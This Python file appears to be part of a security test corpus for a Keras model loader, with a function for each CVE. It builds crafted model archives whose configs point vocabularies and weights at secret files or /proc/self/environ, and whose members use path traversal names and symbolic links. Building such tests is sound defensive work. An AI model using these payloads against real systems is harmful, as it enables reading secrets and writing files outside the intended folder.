"""Files beside the archive and addresses, named in it."""

import stat
import zipfile

from corpus import attack, attacks

PLACES = {
    "absolute": "{}/words.txt",
    "up": "../secret/words.txt",
    "home": "~/words.txt",
    "http": "http://127.0.0.1:9/w.txt",
    "file": "file://{}/words.txt",
    "ftp": "ftp://127.0.0.1/w.txt",
    "gs": "gs://bucket/w.txt",
    "unc": "\\\\127.0.0.1\\share\\w.txt",
    "proc": "/proc/self/environ",
    "null_byte": "{}/words.txt\0",
}


@attacks("CVE-2025-12058: StringLookup opens the vocabulary that a config names", PLACES)
def vocabulary(lab, place):
    return lab.added("StringLookup", {"name": "s", "vocabulary": place.format(lab.secret)})


@attacks("CVE-2025-12058, in the other layers of vocabularies", {n: n for n in ("IntegerLookup", "TextVectorization")})
def other_vocabulary(lab, name):
    return lab.added(name, {"name": "s", "vocabulary": str(lab.secret / "words.txt")})


@attack("CVE-2025-12058: weights of IDF from a file")
def idf_weights(lab):
    return lab.added(
        "StringLookup",
        {
            "name": "s",
            "vocabulary": ["a"],
            "output_mode": "tf_idf",
            "idf_weights": str(lab.secret / "words.txt"),
        },
    )


@attack("CVE-2025-12058, nested in a TimeDistributed")
def nested_vocabulary(lab):
    inner = {
        "module": "keras.layers",
        "class_name": "StringLookup",
        "config": {"vocabulary": str(lab.secret / "words.txt")},
        "registered_name": None,
    }
    return lab.added("TimeDistributed", {"name": "t", "layer": inner})


MEMBERS = {
    "up": "../evil.txt",
    "deep": "assets/../../evil.txt",
    "absolute": "/tmp/evil.txt",
    "drive": "C:\\evil.txt",
    "backslashes": "..\\..\\evil.txt",
    "dot": "assets/./a/..",
}


@attacks("CVE-2007-4559, CVE-2022-25882, CVE-2024-5187, CVE-2025-12060: members that lead out of the folder", MEMBERS)
def member(lab, name):
    return lab.pack({**lab.members(), name: b"evil"})


@attack("CVE-2025-12060: a member that is a symbolic link")
def link_as_member(lab):
    link = zipfile.ZipInfo("assets/words.txt")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return lab.pack([*lab.members().items(), (link, str(lab.secret / "words.txt"))])


@attack("CVE-2025-12060: the weights as a symbolic link")
def weights_as_link(lab):
    parts = lab.members()
    link = zipfile.ZipInfo("model.weights.h5")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return lab.pack([("config.json", parts["config.json"]), (link, str(lab.secret / "secret.h5"))])


@attack("CVE-2024-27318: a path in the weights of a config")
def tensor_by_path(lab):
    return lab.layer(
        bias_initializer={
            "module": "keras.initializers",
            "class_name": "Constant",
            "config": {"value": str(lab.secret / "words.txt")},
            "registered_name": None,
        }
    )
